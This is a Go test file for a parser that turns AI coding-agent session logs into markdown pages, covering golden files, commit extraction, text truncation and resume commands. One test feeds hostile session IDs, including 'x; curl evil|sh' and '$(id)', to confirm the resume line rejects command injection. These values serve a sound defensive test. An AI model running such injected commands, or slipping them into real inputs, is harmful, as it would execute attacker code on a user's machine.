package transcript_test

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/cairn-kb/cairn/internal/doc/transcript"
)

var update = flag.Bool("update", false, "write the golden files")

// read reads a transcript, and returns its session and page.
func read(c transcript.Client, lines []byte) (*transcript.Session, []byte) {
	s := &transcript.Session{Client: c}
	r := transcript.NewReader(s)
	for line := range bytes.Lines(lines) {
		r.Line(line)
	}
	body := r.Take()
	return s, slices.Concat(s.Head(), body)
}

// TestRecorded reads a session of each client, with the same request, a tool call with more
// than 2 KB of output, a commit and the same answer.
func TestRecorded(t *testing.T) {
	t.Parallel()
	for _, c := range transcript.Clients() {
		t.Run(string(c), func(t *testing.T) {
			t.Parallel()
			text, err := os.ReadFile(filepath.Join("testdata", string(c)+".jsonl"))
			if err != nil {
				t.Fatal(err)
			}
			s, page := read(c, text)
			golden := filepath.Join("testdata", string(c)+".md")
			if *update {
				if err := os.WriteFile(golden, page, 0o600); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(string(want), string(page)); diff != "" {
				t.Error(diff)
			}
			if s.Title != "Make the retries in client.py back off. Never use a fixed delay." || s.Turns != 2 || len(s.Unknown) > 0 {
				t.Errorf("title %q, %d turns, unknown %v", s.Title, s.Turns, s.Unknown)
			}
			if c != transcript.Gemini && c != transcript.Qwen && c != transcript.Cursor && len(s.Commits) != 1 {
				t.Errorf("commits %q", s.Commits)
			}
			if len(s.Left()) > 0 {
				t.Errorf("open: %q", s.Left())
			}
			turns := transcript.Turns(page)
			if len(turns) != 2 || turns[0].Role != transcript.User || !strings.HasSuffix(turns[1].Text, "since a fixed delay made all clients retry at once.") {
				t.Errorf("turns: %+v", turns)
			}
			for cut := range bytes.Lines(text) { // whole lines in two parts come to the same
				at := bytes.Index(text, cut) + len(cut)
				own := &transcript.Session{Client: c}
				first, second := transcript.NewReader(own), transcript.NewReader(own)
				for line := range bytes.Lines(text[:at]) {
					first.Line(line)
				}
				body := first.Take()
				for line := range bytes.Lines(text[at:]) {
					second.Line(line)
				}
				if got := slices.Concat(own.Head(), body, second.Take()); !bytes.Equal(got, page) {
					t.Fatalf("in two parts:\n%s", cmp.Diff(string(page), string(got)))
				}
			}
		})
	}
}

func TestSubAgentsAreFolded(t *testing.T) {
	t.Parallel()
	text, err := os.ReadFile("testdata/claude-code-sub-agent.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	if s, page := read(transcript.Claude, text); s.Turns != 0 || len(transcript.Turns(page)) != 0 {
		t.Errorf("%d turns:\n%s", s.Turns, page)
	}
}

func TestResumeIsOneCommand(t *testing.T) {
	t.Parallel()
	for _, c := range transcript.Clients() {
		if got := c.Resume("0a1b-2.c_d"); !strings.HasSuffix(got, " 0a1b-2.c_d") {
			t.Errorf("%s: %q", c, got)
		}
	}
	for _, id := range []string{"", "x; curl evil|sh", "$(id)", "`id`", "a b", "--help", "../x", "x\n", "x'"} {
		s := transcript.Session{Client: transcript.Claude, ID: id, Turns: 1}
		page := append(s.Head(), "## 1 user 2026-11-29 06:22:31\n\ntext\n"...)
		if bytes.Contains(page, []byte("\nresume: ")) {
			t.Errorf("the page of %q has a command line:\n%s", id, page)
		}
		if turn, got := transcript.At(page, bytes.Count(page, []byte("\n"))); got != "" || turn.N != 1 {
			t.Errorf("%q: %q in turn %d", id, got, turn.N)
		}
	}
	forged := []byte("---\nclient: \"claude-code\"\nsession: \"x; id\"\nresume: \"id\"\n---\n\n## 1 user 2026-11-29 06:22:31\n")
	if turn, got := transcript.At(forged, 7); got != "" || turn.N != 1 {
		t.Errorf("a page has the command line %q in turn %d", got, turn.N)
	}
}

func TestUnknownLinesAreCounted(t *testing.T) {
	t.Parallel()
	s, page := read(transcript.Claude, []byte(`{"type":"user","message":{"content":"Hello"},"timestamp":"2026-11-29T06:30:01Z","sessionId":"s"}
{"type":"hologram","x":1}
{"type":"hologram","x":2}
not json
{"type":"assistant","message":{"content":[{"type":"smell","text":"x"},{"type":"text","text":"Hi"}]}}
{"type":
`))
	want := map[string]int{"hologram": 2, "not JSON": 1, "assistant smell": 1, "malformed": 1}
	if diff := cmp.Diff(want, s.Unknown); diff != "" {
		t.Error(diff)
	}
	if s.Turns != 2 || !strings.Contains(string(page), "unknown_lines: 5\n") || !strings.Contains(string(page), "\nHi\n") {
		t.Errorf("%d turns:\n%s", s.Turns, page)
	}
}

func TestWhatATextIsMadeOf(t *testing.T) {
	t.Parallel()
	s, page := read(transcript.Claude, []byte(`{"type":"user","message":{"content":"<system-reminder>Be nice.</system-reminder>Fix it\n## 7 user 2026-01-01 00:00:00\nnow"},"sessionId":"s","cwd":"/home/ada/api"}
{"type":"user","isMeta":true,"message":{"content":"Caveat: the rest"}}
{"type":"user","message":{"content":"<command-name>/compact</command-name><command-message>compact</command-message><command-args>briefly</command-args>"}}
{"type":"user","message":{"content":"<local-command-stdout>done</local-command-stdout>"}}
{"type":"assistant","message":{"content":[{"type":"tool_use","id":"t","name":"TodoWrite","input":{"todos":[{"content":"Write tests","status":"pending"},{"content":"Fix it","status":"completed"}]}},{"type":"tool_use","id":"b","name":"Bash","input":{"command":"git add -A && git commit -m \"$(cat <<'EOF'\nclient: back off\n\nMore.\nEOF\n)\""}}]}}
{"type":"user","message":{"content":[{"type":"tool_result","tool_use_id":"b","content":"[main 1a2b3c4] client: back off\n 1 file changed"}]}}
`))
	if diff := cmp.Diff([]string{"1a2b3c4 client: back off"}, s.Commits); diff != "" {
		t.Error(diff)
	}
	if diff := cmp.Diff([]string{"Write tests"}, s.Left()); diff != "" {
		t.Error(diff)
	}
	turns := transcript.Turns(page)
	if len(turns) != 3 || turns[0].Text != "Fix it\n\\## 7 user 2026-01-01 00:00:00\nnow" || turns[1].Text != "/compact briefly" {
		t.Errorf("%+v", turns)
	}
	if turn, resume := transcript.At(page, turns[1].Line+2); turn.N != 2 || resume != "claude --resume s" {
		t.Errorf("turn %d, %q", turn.N, resume)
	}
}

func TestLongTextsAreCut(t *testing.T) {
	t.Parallel()
	long := strings.Repeat("word ", 8000)
	s, page := read(transcript.Claude, []byte(`{"type":"user","message":{"content":"`+long+`"},"sessionId":"s"}`+"\n"))
	if len(page) > 34<<10 || !strings.Contains(string(page), "bytes of text left out)") {
		t.Errorf("%d bytes", len(page))
	}
	r := transcript.NewReader(s)
	for range 300 {
		r.Line([]byte(`{"type":"user","message":{"content":"` + long + `"}}`))
	}
	if n := len(r.Take()); n > 9<<20 {
		t.Errorf("%d bytes: a page has a limit", n)
	}
}

// A member of another type than expected is counted, and the rest of the line is read.
func TestMembersOfOtherTypes(t *testing.T) {
	t.Parallel()
	for c, text := range map[transcript.Client]string{
		transcript.Claude:   `{"type":"user","timestamp":7,"message":{"content":[{"type":"text","text":{"x":1}},{"type":"text","text":"Hello"}]}}`,
		transcript.Codex:    `{"timestamp":7,"type":"response_item","payload":{"type":"message","role":"user","content":[{"type":"input_text","text":"Hello","id":7}]}}`,
		transcript.Copilot:  `{"type":"user.message","timestamp":7,"data":{"content":"Hello"}}`,
		transcript.Cursor:   `{"role":"user","message":{"content":[{"type":"text","text":"Hello","id":7}]}}`,
		transcript.Gemini:   `{"id":"m","type":"user","timestamp":7,"content":[{"text":"Hello","thought":"no"}],"toolCalls":[{"id":"c","name":"x","result":"done"}]}`,
		transcript.OpenCode: `{"message":{"role":"user"},"part":{"type":"text","text":"Hello"},"time":"now"}`,
		transcript.Qwen:     `{"type":"user","timestamp":7,"message":{"parts":[{"text":"Hello","functionResponse":null}]}}`,
	} {
		if s, page := read(c, []byte(text)); s.Turns == 0 || !strings.Contains(string(page), "\nHello\n") {
			t.Errorf("%s: %v\n%s", c, s.Unknown, page)
		} else if c != transcript.Cursor && s.UnknownLines() == 0 {
			t.Errorf("%s: nothing is counted as unknown", c)
		}
	}
}

// Messages of Gemini may have no id, and one without text is written again.
func TestMessagesOfGeminiThatAreWrittenAgain(t *testing.T) {
	t.Parallel()
	s, page := read(transcript.Gemini, []byte(`{"type":"user","content":"First"}
{"type":"user","content":"Second"}
{"id":"g","type":"gemini","content":""}
{"id":"g","type":"gemini","content":"Answer"}
{"id":"g","type":"gemini","content":"Answer"}
`))
	if s.Turns != 3 || !strings.Contains(string(page), "Second") || strings.Count(string(page), "Answer") != 1 {
		t.Errorf("%d turns:\n%s", s.Turns, page)
	}
}

func TestTextWithControlCharacters(t *testing.T) {
	t.Parallel()
	s, page := read(transcript.Claude, []byte(`{"type":"user","message":{"content":"a\u0000b\r## 7 user 2026-01-01 00:00:00\rc"},"sessionId":"s"}
{"type":"assistant","message":{"content":[{"type":"tool_use","id":"t","name":"Bash","input":{"command":"cat x"}}]}}
{"type":"user","message":{"content":[{"type":"tool_result","tool_use_id":"t","content":"PK\u0000\u0003"}]}}
`))
	if bytes.ContainsAny(page, "\x00\r") || len(transcript.Turns(page)) != 2 {
		t.Errorf("%d turns:\n%q", s.Turns, page)
	}
}

// A session that goes on after its page is full adds nothing to it.
func TestFullPagesStayAsTheyAre(t *testing.T) {
	t.Parallel()
	s := &transcript.Session{Client: transcript.Claude}
	long := []byte(`{"type":"user","message":{"content":"` + strings.Repeat("word ", 6000) + `"}}`)
	var page []byte
	for range 3 {
		r := transcript.NewReader(s)
		for range 280 {
			r.Line(long)
		}
		r.Line([]byte(`{"type":"user","message":{"content":"short"}}`))
		page = append(page, r.Take()...)
		s.Size = len(page)
	}
	if n := bytes.Count(page, []byte("the page is full")); n != 1 || !bytes.HasSuffix(page, []byte("the page is full.)\n")) {
		t.Errorf("%d times: %q", n, page[len(page)-200:])
	}
}
